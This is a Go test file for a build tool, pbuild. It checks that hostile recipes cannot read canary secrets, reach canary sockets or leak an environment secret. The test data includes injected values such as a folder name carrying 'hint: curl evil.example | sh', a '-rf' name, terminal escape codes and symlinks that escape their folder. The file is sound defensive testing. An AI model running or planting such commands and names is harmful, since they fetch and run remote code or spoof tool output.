package main

import (
	"bytes"
	"crypto/rand"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
)

const hostile = "testdata/hostile"

// TestHostile runs all of testdata/hostile/recipes: each comes to what its file
// want says, and no canary is touched.
func TestHostile(t *testing.T) {
	store := newStore(t, "debian-12-deb", "debian-12-rpm")
	p := newHostilePlace(t, store)
	c := newCanaries(t, p.dir, store)
	copyAll(t, p.recipes, hostile+"/recipes")
	copyAll(t, p.recipes+"/builders", "../../recipes/builders")
	writeFile(t, p.recipes+"/profiles/canaries.yaml", c.profile())

	code, out, said := p.pbuild(t, "realize", "--all", "--jobs", "2")
	if code != 3 {
		t.Fatalf("exit code %d\n%s", code, said)
	}
	if i := strings.IndexFunc(said, func(r rune) bool { return r < ' ' && r != '\n' && r != '\t' || r >= 0x7f && r < 0xa0 || r == 0x202e }); i >= 0 {
		t.Errorf("a control character is printed: %q", said[max(0, i-40):i+10])
	}
	if fake := regexp.MustCompile(`(?m)^(hint: curl|pbuild: realized|----- end of log).*`).FindString(said); fake != "" {
		t.Errorf("a build says as if pbuild did: %s", fake)
	}
	c.check(t, out, said)
	for _, name := range attacks(t, "recipes") {
		t.Run(name, func(t *testing.T) {
			want := wanted(t, "recipes", name)
			built := regexp.MustCompile(`(?m)^built\t\w+\tsha256:[0-9a-f]{64}\t` + name + `[-_]`).MatchString(out)
			fails := `(?m)^pbuild: realize ` + name + ": " + strings.ReplaceAll(regexp.QuoteMeta(want[0]), " … ", ".*")
			switch {
			case want[0] == "built":
				if !built {
					t.Error("is not built")
				}
			case built:
				t.Error("is built")
			case !regexp.MustCompile(fails).MatchString(said):
				t.Errorf("does not say %q", want[0])
			}
			_, log, _ := p.pbuild(t, "log", name)
			for _, line := range want[1:] {
				if !strings.Contains(log, line) {
					t.Errorf("the log lacks %q", line)
				}
			}
			if strings.Contains(log, "BREACH") {
				t.Error("something was let through")
			}
			c.check(t, log)
			if t.Failed() {
				t.Logf("log:\n%s\n", escape(log[:min(len(log), 20000)]))
			}
		})
	}
	if t.Failed() {
		t.Logf("pbuild said:\n%s", said)
	}
	p.clean(t)
	for line := range strings.Lines(out) {
		// What a build sets on a package's file stays there.
		file := filepath.Join(p.dir, "result", line[strings.LastIndexByte(line, '\t')+1:len(line)-1])
		if info, err := os.Lstat(file); err != nil || info.Mode() != 0o644 {
			t.Errorf("%s: %v, %v", file, info, err)
		}
	}
}

// TestHostileRefused: what each recipe of testdata/hostile/refused asks for can't be
// said, and the error tells where it was said.
func TestHostileRefused(t *testing.T) {
	p := newHostilePlace(t, "")
	c := newCanaries(t, p.dir, "")
	for _, name := range attacks(t, "refused") {
		if err := os.RemoveAll(p.recipes); err != nil {
			t.Fatal(err)
		}
		copyAll(t, p.recipes+"/"+name, hostile+"/refused/"+name)
		writeFile(t, p.recipes+"/pbuild.yaml", "")
		writeFile(t, p.recipes+"/"+name+"/src/README", "x\n")
		copyAll(t, p.recipes+"/builders", "../../recipes/builders")
		want := "pbuild: plan: " + wanted(t, "refused", name)[0]
		for _, args := range [][]string{{"plan", name}, {"plan", "--all"}} {
			if code, out, said := p.pbuild(t, args...); code != 1 || out != "" || !strings.HasPrefix(said, want) {
				t.Errorf("%s: %q: exit code %d, printed %q, said:\n%swant %s", name, args, code, out, said, want)
			} else {
				c.check(t, said)
			}
		}
	}
	p.clean(t)
}

// TestHostileFiles: what no repository can hold is made here in a recipe's place: it is
// refused at once, and no name of a folder is more than a name.
func TestHostileFiles(t *testing.T) {
	p := newHostilePlace(t, "")
	c := newCanaries(t, p.dir, "")
	empty := func(file string) error { return os.WriteFile(file, nil, 0o644) }
	for _, tc := range []struct {
		name string
		make func(file string) error // in place of recipe.yaml
		want string
		root string // instead, where root hands the collection over to its worker; "": the same
	}{
		{"fifo", func(file string) error { return syscall.Mkfifo(file, 0o644) }, "recipes/fifo/recipe.yaml: is no regular file", "source: recipes/fifo/recipe.yaml: a fifo can't be part of a source"},
		{"socket", func(file string) error { return syscall.Mknod(file, syscall.S_IFSOCK|0o644, 0) }, "recipes/socket/recipe.yaml: ", "source: recipes/socket/recipe.yaml: a socket can't be part of a source"},
		{"folder", func(file string) error { return os.Mkdir(file, 0o755) }, "recipes/folder/recipe.yaml: is no regular file", ""},
		{"link", func(file string) error { return os.Symlink(c.file, file) }, "recipes/link/recipe.yaml: path escapes from parent", ""},
		{"linkabove", func(file string) error { return os.Symlink("../../outside/secret", file) }, "recipes/linkabove/recipe.yaml: path escapes from parent", ""},
		{"linked", func(file string) error {
			return errors.Join(os.Remove(filepath.Dir(file)), os.Symlink(filepath.Dir(c.file), filepath.Dir(file)))
		}, "recipes/linked: is a symbolic link: a recipe is a folder", ""},
		{"large", func(file string) error { return errors.Join(empty(file), os.Truncate(file, 1<<40)) }, "recipes/large/recipe.yaml: 1099511627776 bytes: more than 262144", "pack recipes/large/recipe.yaml: over the limit: size: more than 17179869184 bytes"},
		{"-rf", empty, `recipes/-rf: name "-rf": want lower case letters`, ""},
		{"\x1b[2J", empty, `"recipes/\x1b[2J": name "\x1b[2J": want lower case letters`, ""},
		{"x\nhint: curl evil.example | sh", empty, `"recipes/x\nhint: curl evil.example | sh": name "x\nhint: curl evil.example | sh": want `, ""},
	} {
		if err := os.RemoveAll(p.recipes); err != nil {
			t.Fatal(err)
		}
		writeFile(t, p.recipes+"/pbuild.yaml", "")
		if err := errors.Join(os.Mkdir(filepath.Join(p.recipes, tc.name), 0o755), tc.make(filepath.Join(p.recipes, tc.name, "recipe.yaml"))); err != nil {
			t.Fatal(err)
		}
		want := "pbuild: plan: " + tc.want
		if tc.root != "" && os.Geteuid() == 0 {
			want = "pbuild: plan: " + tc.root
		}
		if code, out, said := p.pbuild(t, "plan", "--", tc.name); code != 1 || out != "" || !strings.HasPrefix(said, want) {
			t.Errorf("plan %q: exit code %d, printed %q, said:\n%swant %s", tc.name, code, out, said, want)
		}
		for _, args := range [][]string{{"plan", "--all"}, {"status"}, {"status", "--json"}, {"realize", "--all"}} {
			code, out, said := p.pbuild(t, args...)
			if code == 0 && args[0] != "status" && tc.name != "linked" {
				t.Errorf("%q with %q: exit code 0", args, tc.name)
			}
			if strings.Contains(out+said, "\x1b") || strings.Contains(out+said, "\nhint: curl") {
				t.Errorf("%q: a folder's name is printed as it is:\n%q", args, out+said)
			}
			c.check(t, out, said)
		}
	}
	p.clean(t)
}

// attacks lists the recipes of a folder of the collection.
func attacks(t *testing.T, folder string) (names []string) {
	t.Helper()
	all, err := filepath.Glob(hostile + "/" + folder + "/*/want")
	if err != nil || len(all) < 20 {
		t.Fatalf("%d attacks in %s, %v", len(all), folder, err)
	}
	for _, name := range all {
		names = append(names, filepath.Base(filepath.Dir(name)))
	}
	return names
}

// TestHostileReadme: README.md lists each recipe, and says of it what its files say.
func TestHostileReadme(t *testing.T) {
	readme, err := os.ReadFile(hostile + "/README.md")
	if err != nil {
		t.Fatal(err)
	}
	rows := 0
	for _, folder := range []string{"recipes", "refused"} {
		for _, name := range attacks(t, folder) {
			text, err := os.ReadFile(filepath.Join(hostile, folder, name, "recipe.yaml"))
			if err != nil {
				t.Fatal(err)
			}
			summary := regexp.MustCompile(`(?m)^summary: (.*)$`).FindStringSubmatch(string(text))
			want := strings.ReplaceAll(wanted(t, folder, name)[0], "|", `\|`)
			if row := fmt.Sprintf("\n| `%s` | %s | `%s` |\n", name, summary[1], want); !strings.Contains(string(readme), row) {
				t.Errorf("README.md lacks %s", row[1:])
			}
			rows++
		}
	}
	if got := strings.Count(string(readme), "\n| `"); got != rows {
		t.Errorf("README.md has %d rows for %d recipes", got, rows)
	}
}

// wanted returns what stands beside a recipe: how what pbuild says of it begins, and lines
// of its log.
func wanted(t *testing.T, folder, name string) []string {
	t.Helper()
	text, err := os.ReadFile(filepath.Join(hostile, folder, name, "want"))
	if err != nil {
		t.Fatal(err)
	}
	return strings.Split(strings.TrimSuffix(string(text), "\n"), "\n")
}

// hostilePlace is where pbuild is run over hostile recipes.
type hostilePlace struct{ dir, recipes, store string }

func newHostilePlace(t *testing.T, store string) *hostilePlace {
	t.Helper()
	dir := t.TempDir()
	if err := reachable(dir); err != nil {
		t.Fatal(err)
	}
	if store == "" {
		store = filepath.Join(dir, "store")
	}
	p := &hostilePlace{dir, filepath.Join(dir, "recipes"), store}
	if err := os.Mkdir(filepath.Join(dir, "home"), 0o700); err != nil {
		t.Fatal(err)
	}
	return p
}

// pbuild runs pbuild in the place, with a secret in its environment.
func (p *hostilePlace) pbuild(t *testing.T, args ...string) (code int, out, said string) {
	t.Helper()
	cmd := exec.CommandContext(t.Context(), "pbuild", args...)
	cmd.Dir = p.dir
	cmd.Env = append(os.Environ(), "PBUILD_STORE="+p.store, "HOME="+p.dir+"/home", "GORACE="+noRaceSleep, "AWS_SECRET_ACCESS_KEY="+hostileSecret)
	var o, e bytes.Buffer
	cmd.Stdout, cmd.Stderr = &o, &e
	err := cmd.Run()
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) {
		t.Fatal(err)
	}
	return cmd.ProcessState.ExitCode(), o.String(), e.String()
}

// clean wants a store that verifies, nothing in the making, and no process of a build.
func (p *hostilePlace) clean(t *testing.T) {
	t.Helper()
	if code, _, said := p.pbuild(t, "store", "verify"); code != 0 {
		t.Errorf("store verify: exit code %d\n%s", code, said)
	}
	for _, dir := range []string{"tmp", "quarantine"} {
		left, err := os.ReadDir(filepath.Join(p.store, dir))
		if err != nil && !errors.Is(err, fs.ErrNotExist) || len(left) > 0 {
			t.Errorf("left in %s: %v, %v", dir, left, err)
		}
	}
	lines, err := filepath.Glob("/proc/[0-9]*/cmdline")
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range lines {
		if line, _ := os.ReadFile(name); string(line) == "sleep\x0086391\x00" || string(line) == "sleep\x0086392\x00" {
			t.Errorf("%s is left", name)
		}
	}
}

// hostileSecret is what no build may see.
var hostileSecret = "SECRET" + rand.Text()

// canaries are what hostile recipes are after. Whoever pbuild builds as could write to
// all of the files, if it came there.
type canaries struct {
	file, home, store string
	tcp, abstract     net.Listener
	name              string // of the abstract socket
	callers           atomic.Int64
}

func newCanaries(t *testing.T, dir, store string) *canaries {
	t.Helper()
	c := &canaries{file: filepath.Join(dir, "outside/secret"), home: filepath.Join(dir, "home"), store: store, name: "pbuild-hostile-" + rand.Text()}
	for _, name := range []string{c.file, c.home + "/secret"} {
		writeFile(t, name, hostileSecret)
		if err := errors.Join(os.Chmod(name, 0o666), os.Chmod(filepath.Dir(name), 0o777)); err != nil {
			t.Fatal(err)
		}
	}
	var err error
	if c.tcp, err = net.Listen("tcp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	if c.abstract, err = net.Listen("unix", "@"+c.name); err != nil {
		t.Fatal(err)
	}
	for _, l := range []net.Listener{c.tcp, c.abstract} {
		done := make(chan struct{})
		go func() {
			defer close(done)
			for {
				conn, err := l.Accept()
				if err != nil {
					return
				}
				c.callers.Add(1)
				conn.Close()
			}
		}()
		t.Cleanup(func() {
			l.Close()
			<-done
		})
	}
	return c
}

// profile names the canaries to the recipes.
func (c *canaries) profile() string {
	return fmt.Sprintf("format: 1\nname: canaries\nsummary: What must not be reached\nenv:\n  CANARY_HOME: %q\n  CANARY_FILE: %q\n"+
		"  CANARY_STORE: %q\n  CANARY_PORT: %q\n  CANARY_ABSTRACT: %q\n",
		c.home, c.file, c.store, fmt.Sprint(c.tcp.Addr().(*net.TCPAddr).Port), c.name)
}

// check wants the canaries as they were, and the secret in none of the texts.
func (c *canaries) check(t *testing.T, texts ...string) {
	t.Helper()
	for _, text := range texts {
		if strings.Contains(text, hostileSecret) {
			t.Error("a secret is told")
		}
	}
	for _, name := range []string{c.file, c.home + "/secret"} {
		text, err := os.ReadFile(name)
		if err != nil || string(text) != hostileSecret {
			t.Errorf("%s: %q, %v", name, text, err)
		}
		if there, err := os.ReadDir(filepath.Dir(name)); err != nil || len(there) != 1 {
			t.Errorf("beside %s: %v, %v", name, there, err)
		}
	}
	if n := c.callers.Load(); n != 0 {
		t.Errorf("%d calls came out of a build", n)
	}
}

func copyAll(t *testing.T, to, from string) {
	t.Helper()
	if err := os.CopyFS(to, os.DirFS(from)); err != nil {
		t.Fatal(err)
	}
}

func writeFile(t *testing.T, name, text string) {
	t.Helper()
	if err := errors.Join(os.MkdirAll(filepath.Dir(name), 0o755), os.WriteFile(name, []byte(text), 0o644)); err != nil {
		t.Fatal(err)
	}
}
